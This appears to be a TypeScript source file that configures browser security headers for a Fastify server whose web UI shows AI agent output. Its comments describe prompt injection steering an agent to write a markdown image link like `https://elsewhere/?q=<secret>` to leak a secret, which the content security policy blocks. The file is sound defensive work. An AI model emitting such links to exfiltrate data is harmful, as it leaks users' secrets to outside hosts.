import fastifyHelmet from '@fastify/helmet';
import type { FastifyInstance, FastifyReply } from 'fastify';

/**
 * The browser-facing defence of everything this server answers (helmet: nosniff, no framing, no referrer,
 * …) and the content security policy of the web UI. The timeline renders what engines wrote, and an engine
 * can be steered by what it reads (prompt injection), so the page allows nothing but its own origin:
 * - scripts only from the built bundle; styles inline as well (Shiki and Mermaid colour with style attributes);
 * - images only from this origin, `data:` and `blob:` (artifact previews): an agent that writes
 *   `![](https://elsewhere/?q=<secret>)` in its answer cannot make the browser send the secret anywhere;
 * - fetches and streams only to this origin's API; no plugins, no `<base>`, no form posts elsewhere;
 * - `frame-ancestors 'none'`: no other site can frame the approval buttons and trick a click.
 * HSTS is left to whatever terminates TLS in front of the server (this one speaks plain HTTP).
 */
export const WEB_CSP = {
  defaultSrc: ["'self'"],
  scriptSrc: ["'self'"],
  styleSrc: ["'self'", "'unsafe-inline'"],
  imgSrc: ["'self'", 'data:', 'blob:'],
  fontSrc: ["'self'", 'data:'],
  connectSrc: ["'self'"],
  objectSrc: ["'none'"],
  baseUri: ["'none'"],
  formAction: ["'self'"],
  frameAncestors: ["'none'"],
};

/** WEB_CSP as the header's text (what a test server in front of the built UI sends too). */
export const WEB_CSP_HEADER = Object.entries(WEB_CSP)
  .map(([name, sources]) => `${name.replace(/[A-Z]/g, (c) => `-${c.toLowerCase()}`)} ${sources.join(' ')}`)
  .join('; ');

/**
 * An artifact is bytes an engine or a client chose, served from this origin: an HTML or SVG one opened in a
 * tab would otherwise run its scripts as the web UI (reading its token, starting runs). `sandbox` makes the
 * document an opaque origin with scripts off; `default-src 'none'` loads nothing it links to.
 */
export const ARTIFACT_CSP = "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'";

export async function useSecurityHeaders(app: FastifyInstance): Promise<void> {
  await app.register(fastifyHelmet, {
    contentSecurityPolicy: { useDefaults: false, directives: WEB_CSP },
    hsts: false,
  });
}

/** The headers of an artifact's bytes (see ARTIFACT_CSP). */
export function artifactHeaders(reply: FastifyReply): void {
  reply.header('Content-Security-Policy', ARTIFACT_CSP);
  reply.header('X-Content-Type-Options', 'nosniff');
}
